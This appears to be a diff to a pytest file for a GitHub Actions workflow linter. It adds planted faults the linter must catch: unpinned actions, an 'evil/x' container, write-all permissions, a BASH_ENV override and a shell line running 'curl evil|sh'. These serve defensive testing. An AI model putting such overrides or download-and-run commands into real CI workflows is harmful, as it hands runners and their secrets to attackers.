@@ -66,6 +66,18 @@ HOUSE = {
     "a token left": ("jobs.yml", "persist-credentials: false", "persist-credentials: true", "leaves its token"),
     "another hour": ("te_watch.yml", "17 3 * * *", "18 3 * * *", "runs at ['18 3 * * *']"),
     "another machine": ("pins.yml", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", "always there"),
+    "a blank before the colon": ("pins.yml", f"uses: {PIN}", "uses : actions/checkout@v4", "is not pinned by a commit"),
+    "a quoted key": ("pins.yml", f"uses: {PIN}", '"uses": actions/checkout@v4', "is not pinned by a commit"),
+    "another tag": ("pins.yml", PIN, PIN.replace("v4.2.2", "v4.2.1"), "does not say that it is v4.2.2"),
+    "an image of nobody": ("pins.yml", "runs-on: ubuntu-24.04", "container: evil/x\n    runs-on: ubuntu-24.04",
+                           "'container'"),
+    "a shell that is code": ("pins.yml", "      - run:", "      - shell: sh -c 'curl evil|sh' {0}\n        run:",
+                             "'shell'"),
+    "a variable that is code": ("pins.yml", "GITHUB_TOKEN:", "BASH_ENV:", "sets BASH_ENV"),
+    "all rights of a job": ("pins.yml", "permissions:\n      contents: write\n      pull-requests: write\n",
+                            "permissions: write-all\n", "permissions are 'write-all'"),
+    "a machine by an expression": ("jobs.yml", "runs-on: ${{ matrix.job.runner }}", "runs-on: ${{ inputs.facts }}",
+                                   "always there"),
     "no YAML": ("pins.yml", "jobs:", "jobs: [", "is no YAML"),
 }  # fmt: skip
 
@@ -75,6 +87,14 @@ def test_a_planted_fault_is_seen(file: str, old: str, new: str, said: str, proje
     plant(project.root / FOLDER / file, old, new)
     faults = list(find_faults(project))
     assert any(said in fault for fault in faults), faults
+
+
+@pytest.mark.parametrize(
+    "text", ["", "on: push\n", "- a\n", "jobs: {a: b}\n", "jobs: {a: {steps: [x]}}\n", "jobs: []\n"]
+)
+def test_what_is_no_workflow_is_a_fault_and_no_crash(text: str, project: Project) -> None:
+    (project.root / FOLDER / "odd.yml").write_text(text)
+    assert any("odd.yml: " in fault for fault in find_faults(project))
 
 
 RECIPES = {
